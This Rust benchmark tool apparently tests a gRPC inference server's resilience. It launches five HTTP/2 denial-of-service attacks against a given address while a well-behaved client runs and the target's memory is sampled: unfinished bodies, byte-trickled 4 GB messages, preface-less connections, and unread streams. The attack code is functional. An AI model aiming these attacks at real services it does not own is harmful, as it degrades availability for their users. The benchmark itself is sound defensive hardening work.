//! Hostile HTTP/2 clients against a gRPC port (`benches/grpc_attacks.sh` runs each at the scale
//! of issue 46), with a well-behaved client beside the attack and the target's RSS sampled:
//!
//! - `bodies`: CONNS x STREAMS `ModelInfer` calls, each sending all but a little of a message
//!   just under the default limit, never finished;
//! - `trickle`: STREAMS calls declaring a 4 GB message, sent a byte every 100 ms;
//! - `bare`: CONNS connections from `--from` that never send their preface;
//! - `unread`: CONNS x STREAMS `ModelMetadata` (or `ServerLive`) calls whose answers are never
//!   read;
//! - `keda`: CONNS x STREAMS KEDA `StreamIsActive` streams never read.
//!
//! The well-behaved client, from 127.0.0.1: a `ServerLive` call every 50 ms on a connection it
//! keeps, and one on a new connection every 500 ms; a call fails if it errs, answers another
//! status, or takes over 2 s. Prints one line of `key=value`.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use clap::Parser;
use h2::client::SendRequest;
use http::Request;
use prost::Message;
use tokio::net::{TcpSocket, TcpStream};

#[derive(Debug, Parser)]
struct Args {
    /// `bodies`, `trickle`, `bare`, `unread` or `keda`.
    attack: String,
    /// The gRPC port.
    #[arg(long)]
    addr: SocketAddr,
    /// The target's process id (its RSS is sampled every 100 ms).
    #[arg(long)]
    pid: u32,
    #[arg(long, default_value_t = 4)]
    conns: usize,
    #[arg(long, default_value_t = 1000)]
    streams: usize,
    #[arg(long, default_value_t = 20)]
    seconds: u64,
    /// The attacker's source address (`bare`; the well-behaved client is 127.0.0.1).
    #[arg(long, default_value = "127.0.0.2")]
    from: IpAddr,
    /// `unread`: `ModelMetadata` of this model (else `ServerLive`).
    #[arg(long)]
    model: Option<String>,
}

const INFER: &str = "/inference.GRPCInferenceService/ModelInfer";
const LIVE: &str = "/inference.GRPCInferenceService/ServerLive";
const METADATA: &str = "/inference.GRPCInferenceService/ModelMetadata";
const STREAM_IS_ACTIVE: &str = "/externalscaler.ExternalScaler/StreamIsActive";

fn call(path: &str) -> Request<()> {
    Request::post(format!("http://localhost{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .expect("a request")
}

fn framed(len: u32, body: &[u8]) -> Bytes {
    let mut b = vec![0u8];
    b.extend_from_slice(&len.to_be_bytes());
    b.extend_from_slice(body);
    Bytes::from(b)
}

async fn connect(addr: SocketAddr, from: Option<IpAddr>, window: Option<u32>) -> anyhow::Result<SendRequest<Bytes>> {
    let tcp = match from {
        Some(ip) => {
            let s = if ip.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
            s.bind(SocketAddr::new(ip, 0))?;
            s.connect(addr).await?
        }
        None => TcpStream::connect(addr).await?,
    };
    let mut b = h2::client::Builder::new();
    if let Some(w) = window {
        b.initial_window_size(w);
    }
    let (send, conn) = b.handshake(tcp).await?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    Ok(send)
}

/// The `grpc-status` of an answer (read whole).
async fn status(resp: h2::client::ResponseFuture) -> anyhow::Result<i32> {
    let resp = resp.await?;
    let code = |h: &http::HeaderMap| h.get("grpc-status").and_then(|v| v.to_str().ok()?.parse().ok());
    if let Some(c) = code(resp.headers()) {
        return Ok(c);
    }
    let mut body = resp.into_body();
    while let Some(d) = body.data().await {
        let d = d?;
        let _ = body.flow_control().release_capacity(d.len());
    }
    code(&body.trailers().await?.unwrap_or_default()).ok_or_else(|| anyhow::anyhow!("no grpc-status"))
}

/// One unary call on `send`.
async fn unary(send: &SendRequest<Bytes>, path: &str, msg: Bytes) -> anyhow::Result<i32> {
    let mut ready = send.clone().ready().await?;
    let (resp, mut body) = ready.send_request(call(path), false)?;
    body.send_data(msg, true)?;
    status(resp).await
}

#[derive(Default)]
struct Tally {
    ok: AtomicU64,
    failed: AtomicU64,
}

impl Tally {
    fn count(&self, ok: bool) {
        if ok { &self.ok } else { &self.failed }.fetch_add(1, Ordering::Relaxed);
    }
}

/// The well-behaved client until `end`.
async fn good_client(addr: SocketAddr, end: Instant, tally: Arc<Tally>) {
    let kept = Arc::clone(&tally);
    let persistent = tokio::spawn(async move {
        let mut send = None;
        while Instant::now() < end {
            if send.is_none() {
                send = connect(addr, None, None).await.ok();
            }
            let ok = match &send {
                Some(s) => matches!(
                    tokio::time::timeout(Duration::from_secs(2), unary(s, LIVE, framed(0, &[]))).await,
                    Ok(Ok(0))
                ),
                None => false,
            };
            if !ok {
                send = None;
            }
            kept.count(ok);
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });
    while Instant::now() < end {
        let fresh = async {
            let s = connect(addr, None, None).await?;
            unary(&s, LIVE, framed(0, &[])).await
        };
        tally.count(matches!(tokio::time::timeout(Duration::from_secs(2), fresh).await, Ok(Ok(0))));
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let _ = persistent.await;
}

fn rss_mb(pid: u32) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let kb: f64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0.0);
    kb / 1024.0
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let a = Args::parse();
    let start = Instant::now();
    let end = start + Duration::from_secs(a.seconds);
    let rss0 = rss_mb(a.pid);
    let peak = Arc::new(AtomicU64::new(rss0 as u64));
    let sampler = {
        let peak = Arc::clone(&peak);
        let pid = a.pid;
        tokio::spawn(async move {
            loop {
                peak.fetch_max(rss_mb(pid) as u64, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        })
    };
    let good = Arc::new(Tally::default());
    let good_task = tokio::spawn(good_client(a.addr, end, Arc::clone(&good)));
    // Answers the attack got: refused (a non-zero status) and when the first and last came.
    let refused = Arc::new(AtomicU64::new(0));
    let opened = Arc::new(AtomicU64::new(0));
    let slowest_ms = Arc::new(AtomicU64::new(0));
    let mut held = Vec::new();
    let from = Some(a.from);
    match a.attack.as_str() {
        "bodies" | "unread" | "keda" => {
            for _ in 0..a.conns {
                let (attack, streams, model) = (a.attack.clone(), a.streams, a.model.clone());
                let (refused, opened) = (Arc::clone(&refused), Arc::clone(&opened));
                held.push(tokio::spawn(async move {
                    // `unread` and `keda`: a peer that opens no window (never reads).
                    let window = (attack != "bodies").then_some(0);
                    let Ok(send) = connect(a.addr, from, window).await else { return };
                    let mut kept = Vec::new();
                    for _ in 0..streams {
                        let Ok(Ok(mut ready)) =
                            tokio::time::timeout(Duration::from_secs(1), send.clone().ready()).await
                        else {
                            break;
                        };
                        let (path, msg, end_stream) = match attack.as_str() {
                            // 262,000 of a 262,100-byte message: under the 256 KiB limit.
                            "bodies" => (INFER, framed(262_100, &vec![b'x'; 262_000]), false),
                            "keda" => (STREAM_IS_ACTIVE, framed(0, &[]), true),
                            _ => match &model {
                                Some(m) => {
                                    let req = oip::pb::ModelMetadataRequest { name: m.clone(), version: String::new() };
                                    (METADATA, framed(req.encoded_len() as u32, &req.encode_to_vec()), true)
                                }
                                None => (LIVE, framed(0, &[]), true),
                            },
                        };
                        let Ok((resp, mut body)) = ready.send_request(call(path), false) else { break };
                        if body.send_data(msg, end_stream).is_err() {
                            break;
                        }
                        opened.fetch_add(1, Ordering::Relaxed);
                        let refused = Arc::clone(&refused);
                        kept.push(body);
                        tokio::spawn(async move {
                            // The headers only: a refusal comes as a trailers-only answer.
                            if let Ok(r) = resp.await
                                && r.headers().get("grpc-status").is_some_and(|v| v != "0")
                            {
                                refused.fetch_add(1, Ordering::Relaxed);
                            }
                        });
                    }
                    tokio::time::sleep_until(end.into()).await;
                    drop(kept);
                }));
            }
        }
        "trickle" => {
            let send = connect(a.addr, from, None).await?;
            for _ in 0..a.streams {
                let (send, refused, opened, slowest) =
                    (send.clone(), Arc::clone(&refused), Arc::clone(&opened), Arc::clone(&slowest_ms));
                held.push(tokio::spawn(async move {
                    let Ok(mut ready) = send.ready().await else { return };
                    let Ok((resp, mut body)) = ready.send_request(call(INFER), false) else { return };
                    opened.fetch_add(1, Ordering::Relaxed);
                    let t = Instant::now();
                    let trickle = async {
                        let msg = framed(u32::MAX, &[b'x'; 64]);
                        for i in 0..msg.len() {
                            if body.send_data(msg.slice(i..i + 1), false).is_err() {
                                break;
                            }
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                        std::future::pending::<()>().await;
                    };
                    tokio::select! {
                        r = resp => if r.is_ok() {
                            refused.fetch_add(1, Ordering::Relaxed);
                            slowest.fetch_max(t.elapsed().as_millis() as u64, Ordering::Relaxed);
                        },
                        () = trickle => {},
                        () = tokio::time::sleep_until(end.into()) => {},
                    }
                }));
            }
        }
        "bare" => {
            let opened = Arc::clone(&opened);
            held.push(tokio::spawn(async move {
                let mut conns = Vec::new();
                for _ in 0..a.conns {
                    let s = match a.from {
                        IpAddr::V4(_) => TcpSocket::new_v4(),
                        IpAddr::V6(_) => TcpSocket::new_v6(),
                    };
                    let Ok(s) = s else { break };
                    if s.bind(SocketAddr::new(a.from, 0)).is_err() {
                        break;
                    }
                    if let Ok(Ok(c)) = tokio::time::timeout(Duration::from_secs(1), s.connect(a.addr)).await {
                        conns.push(c);
                        opened.fetch_add(1, Ordering::Relaxed);
                    }
                    if Instant::now() >= end {
                        break;
                    }
                }
                // Closed by the server: read returns 0.
                let mut closed = 0;
                tokio::time::sleep_until(end.into()).await;
                for c in &conns {
                    let mut b = [0u8; 1];
                    match c.try_read(&mut b) {
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        Ok(n) if n > 0 => {}
                        _ => closed += 1,
                    }
                }
                println!("# bare: {} opened, {closed} closed by the server by the end", conns.len());
            }));
        }
        other => anyhow::bail!("unknown attack {other}"),
    }
    for h in held {
        let _ = h.await;
    }
    let _ = good_task.await;
    sampler.abort();
    println!(
        "attack={} rss_start_mb={rss0:.0} rss_peak_mb={} calls_sent={} refused={} slowest_refusal_ms={} good_ok={} good_failed={}",
        a.attack,
        peak.load(Ordering::Relaxed),
        opened.load(Ordering::Relaxed),
        refused.load(Ordering::Relaxed),
        slowest_ms.load(Ordering::Relaxed),
        good.ok.load(Ordering::Relaxed),
        good.failed.load(Ordering::Relaxed),
    );
    Ok(())
}
